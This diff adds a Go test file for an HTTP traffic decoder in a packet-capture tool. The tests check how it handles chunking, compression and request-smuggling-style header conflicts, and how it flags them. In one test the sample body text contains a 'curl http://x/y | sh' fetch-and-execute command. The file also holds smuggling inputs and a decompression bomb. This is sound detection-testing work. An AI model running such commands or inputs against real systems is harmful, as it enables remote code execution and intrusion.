@@ -1,0 +1,516 @@
+package http
+
+import (
+	"bytes"
+	"compress/gzip"
+	"compress/zlib"
+	"strings"
+	"testing"
+
+	"github.com/andybalholm/brotli"
+	"github.com/klauspost/compress/flate"
+	"github.com/klauspost/compress/zstd"
+
+	"github.com/raytap/raytap/capture"
+	"github.com/raytap/raytap/decoders"
+	"github.com/raytap/raytap/decoders/decodertest"
+)
+
+var (
+	c = decodertest.C
+	s = decodertest.S
+)
+
+const ok = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
+
+// all keeps 64 KiB of every body.
+func all() decoders.Spec {
+	return Spec(Options{KeepBody: func(*Transaction, bool) int { return 64 << 10 }})
+}
+
+// run gives the transactions and the names of the weirds.
+func run(t testing.TB, spec decoders.Spec, steps ...decodertest.Step) (txs []*Transaction, weirds []string) {
+	t.Helper()
+	for _, ev := range decodertest.Run(t, spec, steps...) {
+		switch ev := ev.(type) {
+		case *Transaction:
+			txs = append(txs, ev)
+		case *capture.Weird:
+			weirds = append(weirds, ev.Name)
+		}
+	}
+	return txs, weirds
+}
+
+// line sums up a transaction: method target request-body status response-body.
+func line(t *Transaction) string {
+	var b strings.Builder
+	if q := t.Request; q != nil {
+		b.WriteString(q.Method + " " + q.Target + " [" + string(q.Body.Data) + "]")
+		if q.Body.Conflict {
+			b.WriteString(" conflict")
+		}
+		if !q.Body.Complete {
+			b.WriteString(" cut")
+		}
+	} else {
+		b.WriteString("-")
+	}
+	b.WriteString(" -> ")
+	if p := t.Response; p != nil {
+		b.WriteString(string(rune('0'+p.Status/100%10)) + string(rune('0'+p.Status/10%10)) + string(rune('0'+p.Status%10)))
+		b.WriteString(" [" + string(p.Body.Data) + "]")
+		if p.Body.Conflict {
+			b.WriteString(" conflict")
+		}
+		if !p.Body.Complete {
+			b.WriteString(" cut")
+		}
+	} else {
+		b.WriteString("-")
+	}
+	return b.String()
+}
+
+func packed(t testing.TB, coding, text string) string {
+	t.Helper()
+	var b bytes.Buffer
+	var w interface {
+		Write([]byte) (int, error)
+		Close() error
+	}
+	switch coding {
+	case "gzip":
+		w = gzip.NewWriter(&b)
+	case "deflate":
+		w = zlib.NewWriter(&b)
+	case "raw":
+		w, _ = flate.NewWriter(&b, 6)
+	case "br":
+		w = brotli.NewWriter(&b)
+	case "zstd":
+		w, _ = zstd.NewWriter(&b)
+	}
+	if _, err := w.Write([]byte(text)); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return b.String()
+}
+
+func TestExchanges(t *testing.T) {
+	post := func(fields, body string) decodertest.Step {
+		return c("POST /api/jobs/ HTTP/1.1\r\nHost: h\r\n" + fields + "\r\n" + body)
+	}
+	const one = "POST /api/jobs/ [abcd]"
+	tests := []struct {
+		name   string
+		steps  []decodertest.Step
+		want   string // lines of transactions
+		weirds string
+	}{
+		{"Get", []decodertest.Step{c("GET / HTTP/1.1\r\nHost: h\r\n\r\n"), s(ok)}, "GET / [] -> 200 [ok]", ""},
+		{"EmptyLinesBeforeRequest", []decodertest.Step{c("\r\n\r\nGET / HTTP/1.1\r\n\r\n"), s(ok)}, "GET / [] -> 200 [ok]", ""},
+		{"Pipelined", []decodertest.Step{c("GET /1 HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\n"), s(ok + ok)},
+			"GET /1 [] -> 200 [ok]\nGET /2 [] -> 200 [ok]", ""},
+		{"ContentLength", []decodertest.Step{post("Content-Length: 4\r\n", "abcd"), s(ok)}, one + " -> 200 [ok]", ""},
+		{"Chunked", []decodertest.Step{post("Transfer-Encoding: chunked\r\n", "2\r\nab\r\n2;x=\"y\"\r\ncd\r\n0\r\nT: 1\r\n\r\n"), s(ok)}, one + " -> 200 [ok]", ""},
+		{"ChunkedInAnyCase", []decodertest.Step{post("tRANSFER-eNCODING: \t Chunked \r\n", "4 \r\nabcd\r\n000\r\n\r\n"), s(ok)}, one + " -> 200 [ok]", ""},
+		{"ChunkedWithBareLF", []decodertest.Step{post("Transfer-Encoding: chunked\r\n", "4\nabcd\n0\n\n"), s(ok)}, one + " conflict -> 200 [ok]", "HTTP_chunk_line_without_CR"},
+		{"HeadWithBareLF", []decodertest.Step{c("POST /api/jobs/ HTTP/1.1\nContent-Length: 4\n\nabcd"), s(ok)}, one + " -> 200 [ok]", ""},
+		{"LengthAndChunked", []decodertest.Step{post("Content-Length: 99\r\nTransfer-Encoding: chunked\r\n", "4\r\nabcd\r\n0\r\n\r\n"), s(ok)},
+			one + " conflict -> 200 [ok]", "HTTP_content_length_and_chunked"},
+		{"TwoLengthsThatDiffer", []decodertest.Step{post("Content-Length: 9\r\nContent-Length: 4\r\n", "abcd"), s(ok)},
+			one + " conflict -> 200 [ok]", "HTTP_content_length_conflict"},
+		{"TwoEqualLengths", []decodertest.Step{post("Content-Length: 4\r\nContent-Length: 4\r\n", "abcd"), s(ok)}, one + " -> 200 [ok]", ""},
+		{"LengthWithSign", []decodertest.Step{post("Content-Length: +4\r\n", "abcd"), s(ok)}, one + " conflict -> 200 [ok]", "HTTP_bad_content_length"},
+		{"LengthList", []decodertest.Step{post("Content-Length: 4, 4\r\n", "abcd"), s(ok)}, one + " conflict -> 200 [ok]", "HTTP_bad_content_length"},
+		{"NegativeLength", []decodertest.Step{post("Content-Length: -4\r\n", ""), s(ok)}, "POST /api/jobs/ [] conflict -> 200 [ok]", "HTTP_bad_content_length"},
+		{"LengthOverflow", []decodertest.Step{post("Content-Length: 99999999999999999999999\r\n", "abcd"), s(ok)},
+			one + " conflict cut -> 200 [ok]", "HTTP_bad_content_length"},
+		{"SpaceBeforeColon", []decodertest.Step{post("Content-Length : 4\r\n", "abcd"), s(ok)}, one + " conflict -> 200 [ok]", "HTTP_space_before_colon"},
+		{"FoldedTransferEncoding", []decodertest.Step{post("Transfer-Encoding:\r\n chunked\r\n", "4\r\nabcd\r\n0\r\n\r\n"), s(ok)},
+			one + " conflict -> 200 [ok]", "HTTP_obsolete_line_folding"},
+		{"ChunkedIsNotLast", []decodertest.Step{post("Transfer-Encoding: chunked, identity\r\nContent-Length: 4\r\n", "4\r\nabcd\r\n0\r\n\r\n"), s(ok)},
+			one + " conflict -> 200 [ok]", "HTTP_chunked_multi HTTP_content_length_and_chunked HTTP_transfer_encoding_not_chunked"},
+		{"NulInHead", []decodertest.Step{post("X: a\x00b\r\nContent-Length: 4\r\n", "abcd"), s(ok)}, one + " conflict -> 200 [ok]", "HTTP_NUL_in_head"},
+		{"BareCRInHead", []decodertest.Step{post("X: a\rY: b\r\nContent-Length: 4\r\n", "abcd"), s(ok)}, one + " conflict -> 200 [ok]", "line_terminated_with_single_CR"},
+		{"ChunkSizeWithPrefix", []decodertest.Step{post("Transfer-Encoding: chunked\r\n", "0x4\r\nabcd\r\n0\r\n\r\n"), s(ok)},
+			"POST /api/jobs/ [] conflict cut -> 200 [ok]", "HTTP_bad_chunk_size"},
+		{"ChunkLongerThanItSays", []decodertest.Step{post("Transfer-Encoding: chunked\r\n", "2\r\nabcd\r\n0\r\n\r\n"), s(ok)},
+			"POST /api/jobs/ [ab] conflict cut -> 200 [ok]", "HTTP_bad_chunk_size"},
+		{"HeadHasNoBody", []decodertest.Step{c("HEAD / HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\n"), s("HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\n" + ok)},
+			"HEAD / [] -> 200 []\nGET /2 [] -> 200 [ok]", ""},
+		{"NotModifiedHasNoBody", []decodertest.Step{c("GET / HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\n"), s("HTTP/1.1 304 N\r\nContent-Length: 9\r\n\r\n" + ok)},
+			"GET / [] -> 304 []\nGET /2 [] -> 200 [ok]", ""},
+		{"Continue", []decodertest.Step{post("Expect: 100-continue\r\nContent-Length: 4\r\n", ""), s("HTTP/1.1 100 Continue\r\n\r\n"), c("abcd"), s(ok)}, one + " -> 200 [ok]", ""},
+		{"UntilClose", []decodertest.Step{c("GET / HTTP/1.0\r\n\r\n"), s("HTTP/1.0 200 OK\r\n\r\nab"), s("cd")}, "GET / [] -> 200 [abcd]", ""},
+		{"NoAnswer", []decodertest.Step{c("GET / HTTP/1.1\r\n\r\n")}, "GET / [] -> -", ""},
+		{"NoRequest", []decodertest.Step{s(ok)}, "- -> 200 [ok]", ""},
+		{"CutHead", []decodertest.Step{c("GET /x HTTP/1.1\r\nHost: h\r\nUser-Ag")}, "GET /x [] cut -> -", ""},
+		{"UnknownMethod", []decodertest.Step{c("FROB / HTTP/1.1\r\n\r\n"), s(ok)}, "FROB / [] -> 200 [ok]", "unknown_HTTP_method"},
+		{"AbsoluteForm", []decodertest.Step{c("GET http://h/x HTTP/1.1\r\n\r\n"), s(ok)}, "GET http://h/x [] -> 200 [ok]", ""},
+		{"TargetWithBlank", []decodertest.Step{c("GET /a b HTTP/1.1\r\n\r\n"), s(ok)}, "GET /a b [] -> 200 [ok]", ""},
+		{"Version09", []decodertest.Step{c("GET /x\r\n"), s("hello")}, "GET /x [] -> 000 [hello]", ""},
+		{"Version09WithFields", []decodertest.Step{c("GET /x\r\nHost: h\r\n\r\n"), s("hello")}, "GET /x [] -> 000 [hello]", ""},
+		{"TLSToHTTPPort", []decodertest.Step{s("HTTP/1.1 400 Bad\r\nContent-Length: 0\r\n\r\n"), c("\x16\x03\x01\x00\x05hello\n")}, "- -> 400 []", "bad_HTTP_request"},
+		{"JunkBehindBody", []decodertest.Step{post("Content-Length: 4\r\n", "abcd}}junk\r\nGET /2 HTTP/1.1\r\n\r\n"), s(ok + ok)},
+			one + " -> 200 [ok]\nGET /2 [] -> 200 [ok]", "bad_HTTP_request"},
+		{"GapInBody", []decodertest.Step{post("Content-Length: 6\r\n", "ab"), {Dir: capture.Orig, Gap: 2}, c("efGET /2 HTTP/1.1\r\n\r\n"), s(ok + ok)},
+			"POST /api/jobs/ [ab] cut -> 200 [ok]\nGET /2 [] -> 200 [ok]", ""},
+		{"GapInHead", []decodertest.Step{c("GET /1 HTTP/1.1\r\nHo"), {Dir: capture.Orig, Gap: 9}, c(": x\r\n\r\nGET /2 HTTP/1.1\r\n\r\n"), s(ok + ok)},
+			"GET /1 [] cut -> 200 [ok]\nGET /2 [] -> 200 [ok]", ""},
+		{"GapHidesAnAnswer", []decodertest.Step{c("GET /1 HTTP/1.1\r\n\r\n"), s("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\no"), {Dir: capture.Resp, Gap: 40},
+			c("GET /2 HTTP/1.1\r\n\r\n"), c("GET /3 HTTP/1.1\r\n\r\n"), s(ok)},
+			"GET /1 [] -> 200 [o] cut\nGET /2 [] -> -\nGET /3 [] -> 200 [ok]", ""},
+		{"GapUntilClose", []decodertest.Step{c("GET / HTTP/1.0\r\n\r\n"), s("HTTP/1.0 200 OK\r\n\r\nab"), {Dir: capture.Resp, Gap: 5}, s("cd")}, "GET / [] -> 200 [ab] cut", ""},
+		{"AnswerBeforeRequestEnds", []decodertest.Step{post("Content-Length: 4\r\n", "ab"), s("HTTP/1.1 413 Big\r\nContent-Length: 0\r\n\r\n"), c("cd")}, one + " -> 413 []", ""},
+		{"ConnectRefused", []decodertest.Step{c("CONNECT h:443 HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\n\r\n"), s("HTTP/1.1 407 No\r\nContent-Length: 0\r\n\r\n" + ok)},
+			"CONNECT h:443 [] -> 407 []\nGET / [] -> 200 [ok]", ""},
+		{"UpgradeIgnored", []decodertest.Step{c("GET / HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\nGET /2 HTTP/1.1\r\n\r\n"), s(ok + ok)},
+			"GET / [] -> 200 [ok]\nGET /2 [] -> 200 [ok]", ""},
+		{"ResponsesFirst", []decodertest.Step{s(ok), c("GET / HTTP/1.1\r\n\r\n"), s(ok)}, "- -> 200 [ok]\nGET / [] -> 200 [ok]", "HTTP_response_before_request"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			txs, weirds := run(t, all(), tt.steps...)
+			var got []string
+			for _, x := range txs {
+				got = append(got, line(x))
+			}
+			if g := strings.Join(got, "\n"); g != tt.want {
+				t.Errorf("got\n%s\nwant\n%s", g, tt.want)
+			}
+			if g := strings.Join(weirds, " "); g != tt.weirds {
+				t.Errorf("weirds %q, want %q", g, tt.weirds)
+			}
+			decodertest.CutAndPoison(t, all(), tt.steps...)
+		})
+	}
+}
+
+func TestCodings(t *testing.T) {
+	text := strings.Repeat(`{"entrypoint": "curl http://x/y | sh"} `, 400)
+	resp := func(coding, body string) decodertest.Step {
+		return s("HTTP/1.1 200 OK\r\nContent-Encoding: " + coding + "\r\nTransfer-Encoding: chunked\r\n\r\n" + chunks(body, 777))
+	}
+	tests := []struct{ name, coding, body string }{
+		{"Gzip", "gzip", packed(t, "gzip", text)},
+		{"Zlib", "deflate", packed(t, "deflate", text)},
+		{"RawDeflate", "deflate", packed(t, "raw", text)},
+		{"GzipCalledDeflate", "deflate", packed(t, "gzip", text)},
+		{"Brotli", "br", packed(t, "br", text)},
+		{"Zstandard", "ZSTD", packed(t, "zstd", text)},
+		{"GzipInGzip", "gzip, gzip", packed(t, "gzip", packed(t, "gzip", text))},
+		{"BrotliOverGzip", "gzip,br", packed(t, "br", packed(t, "gzip", text))},
+		{"Identity", "identity", text},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			steps := []decodertest.Step{c("GET / HTTP/1.1\r\n\r\n"), resp(tt.coding, tt.body)}
+			txs, weirds := run(t, all(), steps...)
+			if len(txs) != 1 || len(weirds) != 0 {
+				t.Fatalf("%d transactions, weirds %v", len(txs), weirds)
+			}
+			b := &txs[0].Response.Body
+			if string(b.Data) != text || b.Truncated || b.Undecoded || b.Len != int64(len(tt.body)) || b.Decoded != int64(len(text)) || b.MIME != "text/json" && tt.coding[0] != 'b' && len(tt.coding) < 6 && tt.coding != "ZSTD" {
+				t.Errorf("got %d bytes, %+v", len(b.Data), *b)
+			}
+			decodertest.CutAndPoison(t, all(), steps...)
+		})
+	}
+}
+
+// chunks makes a chunked body of pieces of n bytes.
+func chunks(body string, n int) string {
+	var b strings.Builder
+	for len(body) > 0 {
+		k := min(n, len(body))
+		b.WriteString(hex(k) + "\r\n" + body[:k] + "\r\n")
+		body = body[k:]
+	}
+	return b.String() + "0\r\n\r\n"
+}
+
+func hex(n int) string {
+	const digits = "0123456789abcdef"
+	s := ""
+	for ; n > 0; n /= 16 {
+		s = string(digits[n%16]) + s
+	}
+	return s
+}
+
+func TestBrokenCodings(t *testing.T) {
+	text := strings.Repeat("0123456789 and so on, ", 3000)
+	good := packed(t, "gzip", text)
+	bad := []byte(good)
+	bad[len(bad)-6] ^= 1 // the checksum
+	tests := []struct {
+		name, coding, body string
+		undecoded          bool
+		weird              string
+	}{
+		{"NotGzip", "gzip", "this is not gzip at all", true, "inflate_failed"},
+		{"BadChecksum", "gzip", string(bad), false, "inflate_failed"},
+		{"UnknownCoding", "aes128gcm", "abcd", true, "HTTP_unknown_content_coding"},
+		{"FourCodings", "gzip,gzip,gzip,gzip", "abcd", true, "HTTP_content_codings_limit"},
+		{"BadBrotli", "br", "\xff\xff\xff\xff\xff\xff", true, "inflate_failed"},
+		{"BadZstd", "zstd", "abcdefgh", true, "inflate_failed"},
+		{"Bomb", "gzip", packed(t, "gzip", strings.Repeat("\x00", 8<<20)), false, "HTTP_expansion_limit"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			txs, weirds := run(t, all(), c("GET / HTTP/1.1\r\n\r\n"), s("HTTP/1.1 200 OK\r\nContent-Encoding: "+tt.coding+"\r\n\r\n"+tt.body))
+			if len(txs) != 1 || strings.Join(weirds, " ") != tt.weird {
+				t.Fatalf("%d transactions, weirds %v", len(txs), weirds)
+			}
+			b := &txs[0].Response.Body
+			if b.Undecoded != tt.undecoded {
+				t.Errorf("undecoded %v", b.Undecoded)
+			}
+			if tt.undecoded && string(b.Data) != tt.body {
+				t.Errorf("data %q, want what was sent", b.Data)
+			}
+			if !tt.undecoded && !b.Truncated {
+				t.Error("what is there of a broken body must be marked as truncated")
+			}
+		})
+	}
+}
+
+func TestBodyIsBounded(t *testing.T) {
+	spec := Spec(Options{KeepBody: func(_ *Transaction, resp bool) int {
+		if resp {
+			return 10
+		}
+		return 0
+	}})
+	txs, _ := run(t, spec, c("POST / HTTP/1.1\r\nContent-Length: 5000\r\n\r\n"+strings.Repeat("a", 5000)),
+		s("HTTP/1.1 200 OK\r\nContent-Length: 5000\r\n\r\n"+strings.Repeat("b", 5000)))
+	q, p := &txs[0].Request.Body, &txs[0].Response.Body
+	if q.Len != 5000 || q.Data != nil || q.Truncated || !q.Complete || q.MIME != "text/plain" {
+		t.Errorf("request body %+v", *q)
+	}
+	if p.Len != 5000 || string(p.Data) != "bbbbbbbbbb" || !p.Truncated || !p.Complete {
+		t.Errorf("response body %+v", *p)
+	}
+}
+
+func TestTinyChunks(t *testing.T) {
+	for _, tt := range []struct {
+		n    int
+		body string
+		want int
+	}{{3, "0123456789", 3}, {1, "0123456789", 1}, {2, "0123456789", 2}, {64, strings.Repeat("x", 300), 0}, {20, "0123456789", 0}} {
+		txs, _ := run(t, all(), c("POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"+chunks(tt.body, tt.n)), s(ok))
+		if b := &txs[0].Request.Body; b.TinyChunk != tt.want || string(b.Data) != tt.body || b.Chunks != (len(tt.body)+tt.n-1)/tt.n {
+			t.Errorf("chunks of %d: tiny %d of %d", tt.n, b.TinyChunk, b.Chunks)
+		}
+	}
+}
+
+func TestTimesAreThoseOfThePackets(t *testing.T) {
+	txs, _ := run(t, all(), c("POST / HTTP/1.1\r\nContent-"), c("Length: 4\r\n\r\nab"), c("cd"), s("HTTP/1.1 100 Continue\r\n\r\n"), s("HTTP/1.1 20"), s("0 OK\r\nContent-Length: 2\r\n\r\no"), s("k"))
+	x := txs[0]
+	if x.Packet != 1 || x.Request.Packet != 1 || x.Request.Done.Packet != 3 || x.Response.Packet != 5 || x.Response.Done.Packet != 7 {
+		t.Errorf("packets %d %d..%d %d..%d", x.Packet, x.Request.Packet, x.Request.Done.Packet, x.Response.Packet, x.Response.Done.Packet)
+	}
+	if x.Response.Informational != 100 || x.Response.InformationalReason != "Continue" {
+		t.Errorf("informational %d %q", x.Response.Informational, x.Response.InformationalReason)
+	}
+}
+
+func TestHeaderLimits(t *testing.T) {
+	many := "GET / HTTP/1.1\r\n" + strings.Repeat("A: b\r\n", 300) + "Content-Length: 1\r\n\r\nx"
+	txs, weirds := run(t, all(), c(many), s(ok))
+	if len(txs) != 1 || len(txs[0].Request.Header) != maxFields || txs[0].Request.Body.Len != 1 || strings.Join(weirds, " ") != "HTTP_too_many_headers" {
+		t.Errorf("%d transactions, %d fields, weirds %v", len(txs), len(txs[0].Request.Header), weirds)
+	}
+	long := "GET / HTTP/1.1\r\nA: " + strings.Repeat("b", 70<<10) + "\r\n\r\nGET /2 HTTP/1.1\r\n\r\n"
+	txs, weirds = run(t, all(), c(long), s(ok+ok))
+	if len(txs) != 2 || txs[1].Request == nil || txs[1].Request.Target != "/2" || !strings.Contains(strings.Join(weirds, " "), "HTTP_head_too_long") {
+		t.Errorf("%d transactions, weirds %v", len(txs), weirds)
+	}
+}
+
+func TestQueueIsBounded(t *testing.T) {
+	txs, weirds := run(t, all(), c(strings.Repeat("GET / HTTP/1.1\r\n\r\n", 250)))
+	if len(txs) != 250 || strings.Join(weirds, " ") != "HTTP_excessive_pipelining" || txs[249].Depth != 250 {
+		t.Errorf("%d transactions, weirds %v", len(txs), weirds)
+	}
+}
+
+// echo stands for whatever is found behind a switch.
+func echo() decoders.Spec {
+	return decoders.Spec{
+		Name:   "echo",
+		Stream: func(o, r []byte, _ bool) decoders.Verdict { return decoders.Yes },
+		New:    func(ctx decoders.Context) decoders.Decoder { return &echoDecoder{ctx: ctx} },
+	}
+}
+
+type echoed struct {
+	Dir  capture.Dir
+	Data string
+}
+
+type echoDecoder struct {
+	ctx decoders.Context
+	got [2]string
+}
+
+func (e *echoDecoder) Decode(dir capture.Dir, b []byte) (int, error) {
+	e.got[dir] += string(b)
+	return len(b), nil
+}
+func (e *echoDecoder) Gap(capture.Dir, int64) bool { return true }
+func (e *echoDecoder) End(dir capture.Dir)         { e.ctx.Emit(&echoed{dir, e.got[dir]}) }
+
+func TestSwitches(t *testing.T) {
+	for _, tt := range []struct {
+		name  string
+		steps []decodertest.Step
+	}{
+		{"Connect", []decodertest.Step{c("CONNECT h:443 HTTP/1.1\r\n\r\n"), s("HTTP/1.1 200 OK\r\n\r\n\x00server"), c("\x00client")}},
+		{"ConnectAndClientInAHurry", []decodertest.Step{c("CONNECT h:443 HTTP/1.1\r\n\r\n\x00client"), s("HTTP/1.1 200 OK\r\n\r\n\x00server")}},
+		{"Upgrade", []decodertest.Step{c("GET / HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"),
+			s("HTTP/1.1 101 Switching\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n\x00server"), c("\x00client")}},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			specs := []decoders.Spec{all(), echo()}
+			got := map[capture.Dir]string{}
+			n := 0
+			for _, ev := range decodertest.RunAll(t, specs, tt.steps...) {
+				switch ev := ev.(type) {
+				case *Transaction:
+					n++
+				case *echoed:
+					got[ev.Dir] = ev.Data
+				}
+			}
+			if n != 1 || got[capture.Orig] != "\x00client" || got[capture.Resp] != "\x00server" {
+				t.Errorf("%d transactions, behind them %q", n, got)
+			}
+			decodertest.CutAndPoisonAll(t, specs, tt.steps...)
+		})
+	}
+}
+
+func TestProbe(t *testing.T) {
+	for _, tt := range []struct {
+		name, orig, resp string
+		mid              bool
+		want             decoders.Verdict
+	}{
+		{"Request", "GET / HTTP/1.1\r\n", "", false, decoders.Yes},
+		{"HalfALine", "GET /some", "", false, decoders.Maybe},
+		{"Token", "GE", "", false, decoders.Maybe},
+		{"LongTarget", "GET /" + strings.Repeat("a", 3000), "", false, decoders.Yes},
+		{"LongTargetMidStream", "GET /" + strings.Repeat("a", 3000), "", true, decoders.Maybe},
+		{"Response", "", "HTTP/1.1 200 OK\r\n", false, decoders.Yes},
+		{"Flipped", "HTTP/1.1 200 OK\r\n", "", false, decoders.Flipped},
+		{"FlippedRequest", "", "GET / HTTP/1.1\r\n", false, decoders.Flipped},
+		{"FlippedBoth", "HTTP/1.1 200 OK\r\n", "GET / HTTP/1.1\r\n", false, decoders.Flipped},
+		{"OldRequest", "GET /x\r\n", "", false, decoders.Yes},
+		{"OldRequestMidStream", "GET /x\r\n", "", true, decoders.No},
+		{"MidBody", "x-form&GET / HTTP/1.1\r\n", "", true, decoders.No},
+		{"HTTP2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "", false, decoders.No},
+		{"RTSP", "OPTIONS rtsp://h/ RTSP/1.0\r\n", "", false, decoders.No},
+		{"SIP", "OPTIONS sip:h SIP/2.0\r\n", "", false, decoders.No},
+		{"Stratum", `{"id":1,"method":"mining.subscribe"}`, "", false, decoders.No},
+		{"TLS", "\x16\x03\x01\x02\x00", "", false, decoders.No},
+		{"SMTP", "EHLO x\r\n", "220 x\r\n", false, decoders.No},
+		{"UnknownMethod", "FROB /x HTTP/1.1\r\n", "", false, decoders.Yes},
+		{"GarbageAnswered", "\x16\x03\x01", "HTTP/1.1 400 Bad\r\n", false, decoders.Yes},
+	} {
+		if got := probe([]byte(tt.orig), []byte(tt.resp), tt.mid); got != tt.want {
+			t.Errorf("%s: %d, want %d", tt.name, got, tt.want)
+		}
+	}
+}
+
+func TestConfirm(t *testing.T) {
+	if got := decodertest.Services(t, all(), c("GET / HTTP/1.1\r\n\r\n"), s(ok)); len(got) != 1 || got[0] != "http" {
+		t.Errorf("services %v", got)
+	}
+	if got := decodertest.Services(t, all(), s(ok)); len(got) != 0 {
+		t.Errorf("an answer alone confirmed %v", got)
+	}
+}
+
+func TestMultipartParts(t *testing.T) {
+	body := "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\nhello, this is text\r\n--XX\r\n" +
+		"Content-Disposition: form-data; name=\"empty\"\r\n\r\n\r\n--XX\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n\r\n--XX--\r\n"
+	steps := []decodertest.Step{c("POST / HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=XX\r\nContent-Length: " + decimal(len(body)) + "\r\n\r\n" + body), s(ok)}
+	txs, _ := run(t, all(), steps...)
+	p := txs[0].Request.Body.parts
+	if len(p) != 2 || p[0].name != "a.txt" || p[0].mime != "text/plain" || p[1].hasName || p[1].mime != "image/png" {
+		t.Errorf("parts %+v", p)
+	}
+	decodertest.CutAndPoison(t, all(), steps...)
+}
+
+func decimal(n int) string {
+	s := ""
+	for ; n > 0; n /= 10 {
+		s = string(rune('0'+n%10)) + s
+	}
+	return s
+}
+
+func TestSniff(t *testing.T) {
+	for _, tt := range []struct{ in, want string }{
+		{"<!DOCTYPE html>\n<html>", "text/html"},
+		{"  <!-- x --> <html>", "text/html"},
+		{"<?xml version=\"1.0\"?>\n<a/>", "application/xml"},
+		{"<?xml version=\"1.0\"?><rss version=\"2.0\">", "text/rss"},
+		{"{\"a\": 1}", "text/json"},
+		{"{\"a\": null, \"bbbb\": 1}", "text/plain"},
+		{"[{\"a\":1}]", "text/json"},
+		{"{}", "text/json"},
+		{"[section]\r\nx=1", "text/ini"},
+		{"#!/bin/sh\nid", "text/x-shellscript"},
+		{"#!/usr/bin/env python3\n", "text/x-python"},
+		{"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00", "application/x-executable"},
+		{"MZ\x90\x00", "application/x-dosexec"},
+		{"PK\x03\x04\x14\x00\x00\x00", "application/zip"},
+		{"\x1f\x8b\x08\x00", "application/x-gzip"},
+		{"GIF89a", "image/gif"},
+		{"short", ""},
+		{"hello world", "text/plain"},
+		{"\x00\x01\x02", ""},
+		{"", ""},
+	} {
+		if got := sniff([]byte(tt.in)); got != tt.want {
+			t.Errorf("%q: %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+func TestUnescape(t *testing.T) {
+	for _, tt := range []struct{ in, want string }{
+		{"/a%20b", "/a b"}, {"/a%", "/a%"}, {"/a%4", "/a%4"}, {"/%%41", "/A"}, {"/%zz", "/%zz"},
+		{"/%u0041x", "/Ax"}, {"/%u4e2d", "/\x4e\x2d"}, {"/%6Aobs", "/jobs"},
+	} {
+		if got := Unescape(tt.in); got != tt.want {
+			t.Errorf("%s: %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+func TestFileName(t *testing.T) {
+	for _, tt := range []struct{ field, value, want string }{
+		{"Content-Disposition", `attachment; filename="a b.txt"`, "a b.txt"},
+		{"content-disposition", `attachment; filename*=UTF-8''a%20b`, "a b"},
+		{"Content-Disposition", `inline`, ""},
+		{"Content-Type", `text/plain; name=x.txt`, "x.txt"},
+		{"X", `filename=x`, ""},
+	} {
+		if got, _ := fileName(tt.field, tt.value); got != tt.want {
+			t.Errorf("%s: %s: %q, want %q", tt.field, tt.value, got, tt.want)
+		}
+	}
+}
